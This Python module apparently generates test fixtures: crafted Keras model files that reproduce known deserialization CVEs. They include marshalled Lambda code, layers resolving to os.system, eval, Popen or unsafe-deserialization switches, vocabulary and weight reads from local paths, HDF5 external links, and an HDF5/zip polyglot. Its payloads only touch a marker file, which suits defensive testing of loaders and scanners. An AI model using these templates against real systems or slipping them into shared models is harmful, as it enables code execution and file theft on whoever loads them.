"""Model files made to run code, to open files or to be taken for something else; made without Keras.

The patterns are those of the advisories on Keras: CVE-2024-3660 (code of a Lambda), CVE-2025-1550 (any function as a
layer), CVE-2025-8747 (``keras.utils.get_file``), CVE-2025-9905 (a Lambda in HDF5), CVE-2025-9906 (unsafe loading
switched on from within), CVE-2025-12058 (a vocabulary read from a path), CVE-2026-1462 (``TFSMLayer``), CVE-2026-1669
(HDF5 that keeps its numbers in another file).
"""

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Json = dict[str, Any]
INPUT: Json = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "in"},
    "registered_name": None,
}


def layer(kind: str, name: str, /, **config: object) -> Json:
    """A layer as Keras 3 writes it."""
    inner = {"name": name, "trainable": True, "dtype": "float32", **config}
    return {"module": "keras.layers", "class_name": kind, "config": inner, "registered_name": None}


def dense(name: str = "dense", **config: object) -> Json:
    """A Dense of one unit."""
    return layer("Dense", name, **{"units": 1, "activation": "linear", "use_bias": True, **config})


def sequential(*layers: Json, **beside: object) -> Json:
    """A compiled sequential model on one feature."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "trainable": True, "layers": [INPUT, *layers], "build_input_shape": [None, 1]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 1]},
        "compile_config": {"optimizer": "sgd", "loss": "mse"},
        **beside,
    }


def functional(evil: Json, *arguments: object) -> Json:
    """A functional model that calls something on arguments of its own, beside an ordinary Dense."""
    source = {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 1], "dtype": "float32", "keras_history": ["in", 0, 0]},
    }
    layers = [
        {**INPUT, "name": "in", "inbound_nodes": []},
        {**evil, "name": "evil", "inbound_nodes": [{"args": list(arguments), "kwargs": {}}]},
        {**dense(), "name": "dense", "inbound_nodes": [{"args": [source], "kwargs": {}}]},
    ]
    config = {"name": "f", "layers": layers, "input_layers": [["in", 0, 0]], "output_layers": [["dense", 0, 0]]}
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": config,
        "registered_name": "Functional",
        "compile_config": {"optimizer": "sgd", "loss": "mse"},
    }


def weights() -> bytes:
    """Of the one Dense."""
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        file["layers/dense/vars/0"], file["layers/dense/vars/1"] = np.ones((1, 1), "f4"), np.zeros(1, "f4")
    return content.getvalue()


def archive(path: Path, config: Json, stored: bytes | None = None) -> Path:
    """A ``.keras`` file."""
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", '{"keras_version": "3.5.0"}')
        file.writestr("config.json", json.dumps(config))
        file.writestr("model.weights.h5", weights() if stored is None else stored)
    return path


def hdf5(path: Path, *layers: Json) -> Path:
    """An ``.h5`` file as Keras 2 writes it."""
    old = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 1], "dtype": "float32", "name": "in"}}
    plain = [{"class_name": one["class_name"], "config": one["config"]} for one in layers]
    with h5py.File(path, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        model = {"class_name": "Sequential", "config": {"name": "s", "layers": [old, *plain]}}
        file.attrs["model_config"] = json.dumps(model)
        file.attrs["training_config"] = json.dumps({"loss": "mse", "optimizer_config": {"class_name": "SGD"}})
        kept = file.create_group("model_weights")
        kept.attrs["layer_names"] = [one["config"]["name"].encode() for one in layers]
        for one in layers:
            group = kept.create_group(one["config"]["name"])
            group.attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"] if one["class_name"] == "Dense" else []
            if one["class_name"] == "Dense":
                group["dense/kernel:0"], group["dense/bias:0"] = np.ones((1, 1), "f4"), np.zeros(1, "f4")
    return path


def touching(marker: Path) -> str:
    """The code of a function that leaves a file behind, as Keras stores it."""
    source = f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode("ascii")  # noqa: S307  our own text


def lambda_layer(marker: Path) -> Json:
    """A Lambda of that code."""
    function = {
        "class_name": "__lambda__",
        "config": {"code": touching(marker), "defaults": None, "closure": None},
    }
    return layer("Lambda", "lambda", function=function, arguments={})


def old_lambda(marker: Path) -> Json:
    """The same as Keras 2 writes it."""
    return layer("Lambda", "lambda", function=[touching(marker), None, None], function_type="lambda", arguments={})


def function(name: str, module: str, kind: str = "function") -> Json:
    """A function by name."""
    return {"module": module, "class_name": kind, "config": name, "registered_name": name}


def lookup(kind: str, vocabulary: object, **config: object) -> Json:
    """A layer that turns words or ids into numbers."""
    return layer(kind, "words", **{"vocabulary": vocabulary, "output_mode": "int", **config})


def external(secret: Path) -> bytes:
    """Weights that lie in another file, as HDF5 allows."""
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        file.create_dataset("layers/dense/vars/0", (1, 1), "f4", external=[(str(secret), 0, 4)])
        file["layers/dense/vars/1"] = np.zeros(1, "f4")
    return content.getvalue()


def linked(secret: Path) -> bytes:
    """Weights that are a link to another file."""
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        file["layers/dense/vars/0"] = h5py.ExternalLink(str(secret), "/secret")
        file["layers/dense/vars/1"] = np.zeros(1, "f4")
    return content.getvalue()


def virtual(secret: Path) -> bytes:
    """Weights that HDF5 puts together from another file."""
    content = io.BytesIO()
    layout = h5py.VirtualLayout(shape=(1, 1), dtype="f4")
    layout[:] = h5py.VirtualSource(str(secret), "secret", shape=(1, 1))
    with h5py.File(content, "w") as file:
        file.create_virtual_dataset("layers/dense/vars/0", layout)
        file["layers/dense/vars/1"] = np.zeros(1, "f4")
    return content.getvalue()


def hostile(folder: Path, marker: Path, secret: Path) -> Iterator[Path]:
    """Every hostile file.

    Args:
        folder: where they are written.
        marker: a file that their code would make.
        secret: an HDF5 file that they would open.
    """
    evil = lambda_layer(marker)
    touch = [f"touch {marker}"]
    called: Mapping[str, Json] = {
        "os_system": functional(function("system", "os"), *touch),
        "builtins_eval": functional(function("eval", "builtins"), f"open({str(marker)!r}, 'w')"),
        "get_file": functional(function("get_file", "keras.utils"), "x.txt", f"file://{secret}"),
        "get_file_as_a_class": functional(function("get_file", "keras.utils", "get_file"), "x", f"file://{secret}"),
        "load_model": functional(function("load_model", "keras.models"), str(secret)),
        "load_model_src": functional(function("load_model", "keras.src.saving.saving_api"), str(secret)),
        "unsafe_switched_on": functional(function("enable_unsafe_deserialization", "keras.config")),
        "tfsm_as_a_function": functional(function("TFSMLayer", "keras.layers"), str(secret.parent)),
        "tf_write_file": functional(function("write_file", "tensorflow.io"), str(marker), "x"),
        "gfile": functional(function("GFile", "tensorflow.python.platform.gfile"), str(secret)),
        "hidden_in_compile_config": sequential(
            layer("Rescaling", "scale", scale={"compile_config": evil}, offset=0.0), dense()
        ),
        "compile_config_of_an_inner_model": sequential(
            {**sequential(dense("inside")), "compile_config": {"loss": evil, "optimizer": "sgd"}}, dense()
        ),
        "lambda": sequential(evil, dense()),
        "lambda_as_an_activation": sequential(dense(activation=evil)),
        "lambda_in_a_wrapper": sequential(layer("TimeDistributed", "each", layer=evil), dense()),
        "lambda_under_another_name": sequential({**evil, "class_name": "keras>Lambda"}, dense()),
        "popen": sequential(dense(activation={"module": "subprocess", "class_name": "Popen", "config": {"args": "x"}})),
        "strings": sequential(lookup("StringLookup", str(secret)), dense()),
        "integers": sequential(lookup("IntegerLookup", str(secret), vocabulary_dtype="int64"), dense()),
        "text": sequential(lookup("TextVectorization", str(secret), split="whitespace"), dense()),
        "address": sequential(lookup("StringLookup", "https://127.0.0.1:9/words.txt"), dense()),
        "frequencies": sequential(
            lookup("StringLookup", ["a"], idf_weights=str(secret), output_mode="tf_idf"), dense()
        ),
        "lookup_in_a_wrapper": sequential(
            layer("TimeDistributed", "each", layer=lookup("StringLookup", str(secret))), dense()
        ),
        "saved_model": sequential(layer("TFSMLayer", "other", filepath=str(secret.parent), call_endpoint="s"), dense()),
        "torch": sequential(layer("TorchModuleWrapper", "other", module="gASV"), dense()),
        "jax": sequential(layer("JaxLayer", "other", call_fn=function("system", "os")), dense()),
        "any_class_by_name": sequential(dense(activation={"class_name": "__typespec__", "module": "os"})),
    }  # fmt: skip
    for name, config in called.items():
        yield archive(folder / f"{name}.keras", config)
    stored: Mapping[str, Callable[[Path], bytes]] = {"external": external, "linked": linked, "virtual": virtual}
    for name, of in stored.items():
        yield archive(folder / f"{name}.keras", sequential(dense()), of(secret))
    yield hdf5(folder / "lambda.h5", old_lambda(marker), dense())
    yield hdf5(folder / "strings.h5", lookup("StringLookup", str(secret)), dense())
    yield polyglot(folder, marker)


def polyglot(folder: Path, marker: Path) -> Path:
    """HDF5 with a Lambda to who goes by its name, a harmless archive to who goes by its end."""
    path = hdf5(folder / "both.h5", old_lambda(marker), dense())
    harmless = archive(folder / "harmless.keras", sequential(dense()))
    path.write_bytes(path.read_bytes() + harmless.read_bytes())
    return path
